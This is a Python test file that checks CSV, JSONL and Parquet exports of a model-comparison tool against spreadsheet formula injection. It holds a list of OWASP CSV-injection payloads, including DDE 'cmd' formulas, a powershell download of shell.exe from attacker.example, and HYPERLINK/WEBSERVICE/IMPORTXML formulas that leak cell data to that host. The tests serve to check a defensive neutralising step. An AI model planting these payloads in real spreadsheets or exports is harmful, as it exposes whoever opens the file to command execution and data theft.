"""CSV / spreadsheet injection: OWASP's payloads and Hypothesis text through every export.

Round-trip, defined: a CSV cell read back with `export.restore` (strip one leading apostrophe,
which `neutralise` adds to every text starting with = + - @ tab CR or an apostrophe) equals the
original value; JSONL and Parquet keep the raw value with no escaping at all.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bakeoff.batch import results as batch_results
from bakeoff.batch.input import BatchItem
from bakeoff.records import ErrorInfo, Params, Result, Run
from bakeoff.store import export

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# OWASP "CSV Injection" page and the payload lists it links to (PayloadsAllTheThings, Cure53).
OWASP_PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://attacker.example?leak="&A1&A2,"Error: please click")',
    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=WEBSERVICE(\"http://attacker.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!E2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import url(http://attacker.example)",
    "\t=1+1",
    "\r=1+1",
    "\t\r=cmd|' /C calc'!A0",
    "=\t1+1",
    "'=1+1",  # already quoted: must come back with its apostrophe
    "''=1+1",
    "=1+1\n=2+2",  # a formula on the second line of a multi-line cell
    "a,b,\"c\"\n=1+1",
    "=\"\"\"quoted\"\"\"",
    "=0x41",
    "-",
    "=",
    "@",
    "+",
]

TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)  # lone surrogates cannot be UTF-8
RISKY = st.one_of(TEXT, st.builds(lambda c, t: c + t, st.sampled_from([*DANGEROUS, "'"]), TEXT))
FIELDS = ("prompt", "system", "reference", "model", "output", "error", "request_id", "metadata")


def _pairs(values: dict[str, str]) -> list[tuple[Run, list[Result]]]:
    run = Run(
        prompt=values["prompt"],
        model_refs=[values["model"]],
        params=Params(system=values["system"]),
        reference=values["reference"],
        created_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
    )
    res = Result(
        run_id=run.run_id,
        model_ref=values["model"],
        provider="openai",
        model=values["model"],
        status="error",
        output=values["output"],
        error=ErrorInfo("ServerError", values["error"], 500, "try again"),
        request_id=values["request_id"],
    )
    return [(run, [res])]


def _read_csv(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _jsonl(data: bytes) -> list[dict]:
    """JSON Lines are split on \\n only (U+2028, NEL, ... may sit raw inside a string)."""
    return [json.loads(line) for line in data.decode("utf-8").split("\n") if line]


def _assert_safe(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(DANGEROUS), f"un-neutralised cell {cell!r}"


def _check_result_exports(values: dict[str, str]) -> None:
    pairs = _pairs(values)
    raw = {
        "prompt": values["prompt"],
        "system": values["system"],
        "reference": values["reference"],
        "model": values["model"],
        "output": values["output"],
        "error_message": values["error"],
        "request_id": values["request_id"],
    }
    # CSV: nothing a spreadsheet runs, and every value back through restore()
    (row,) = _read_csv(export.to_csv(pairs))
    _assert_safe([*row.keys(), *row.values()])
    for column, value in raw.items():
        assert export.restore(row[column]) == value, column
    # JSONL: raw values
    (obj,) = _jsonl(export.to_jsonl(pairs))
    for column, value in raw.items():
        assert obj[column] == value, column
    # Parquet: raw values
    frame = pd.read_parquet(io.BytesIO(export.to_parquet(pairs)))
    for column, value in raw.items():
        assert frame.loc[0, column] == value, column


def _check_batch_exports(values: dict[str, str]) -> None:
    item = BatchItem(
        item_id=values["request_id"] or "item",
        prompt=values["prompt"],
        system=values["system"] or None,
        reference=values["reference"] or None,
        metadata={values["metadata"] or "topic": values["output"]},
    )
    ((_run, (res,)),) = _pairs(values)
    res.item_id, res.repeat = item.item_id, 1
    frame = batch_results.cells_frame([item], [res])
    rows = _read_csv(batch_results.export_bytes(frame, "csv"))
    assert len(rows) == 1
    _assert_safe([*rows[0].keys(), *rows[0].values()])
    assert export.restore(rows[0]["output"]) == values["output"]
    assert export.restore(rows[0]["prompt"]) == values["prompt"]
    (obj,) = _jsonl(batch_results.export_bytes(frame, "jsonl"))
    assert obj["output"] == values["output"] and obj["prompt"] == values["prompt"]
    parquet = pd.read_parquet(io.BytesIO(batch_results.export_bytes(frame, "parquet")))
    assert parquet.loc[0, "output"] == values["output"]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_payloads_in_every_field_of_every_export(payload: str) -> None:
    values = dict.fromkeys(FIELDS, payload)
    _check_result_exports(values)
    _check_batch_exports(values)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.fixed_dictionaries(dict.fromkeys(FIELDS, RISKY)))
def test_any_text_is_defused_and_round_trips(values: dict[str, str]) -> None:
    _check_result_exports(values)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.fixed_dictionaries(dict.fromkeys(FIELDS, RISKY)))
def test_batch_exports_too(values: dict[str, str]) -> None:
    _check_batch_exports(values)


def test_numbers_stay_numbers_and_restore_is_exact() -> None:
    assert export.neutralise(-3) == -3 and export.neutralise(1.5) == 1.5 and export.neutralise(None) is None
    for payload in OWASP_PAYLOADS:
        assert export.restore(export.neutralise(payload)) == payload
        assert not export.neutralise(payload).startswith(DANGEROUS)
